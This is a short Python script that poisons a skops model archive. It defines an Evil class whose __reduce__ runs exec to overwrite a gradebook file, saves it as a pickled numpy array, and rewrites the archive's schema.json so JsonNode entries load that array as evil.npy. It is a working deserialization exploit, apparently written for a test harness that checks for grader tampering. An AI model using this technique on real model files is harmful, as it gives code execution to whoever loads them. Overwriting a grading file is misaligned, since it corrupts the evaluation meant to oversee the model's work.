import io
import json
import pathlib
import pickle
import zipfile

import numpy as np


class Evil:
    def __reduce__(self):
        return exec, (f"open({world.gradebook!r}, 'w').write('pickled')",)


file = next(pathlib.Path().rglob("model.skops"))
array = io.BytesIO()
np.save(array, np.array([Evil()], dtype=object), allow_pickle=True)
with zipfile.ZipFile(file) as archive:
    schema = json.loads(archive.read("schema.json"))


def poisoned(node):
    if isinstance(node, dict):
        if node.get("__loader__") == "JsonNode":
            return node | {"__loader__": "NdArrayNode", "type": "numpy", "file": "evil.npy"}
        return {key: poisoned(value) for key, value in node.items()}
    return [poisoned(each) for each in node] if isinstance(node, list) else node


with zipfile.ZipFile(file, "w") as archive:
    archive.writestr("schema.json", json.dumps(poisoned(schema)))
    archive.writestr("evil.npy", array.getvalue())
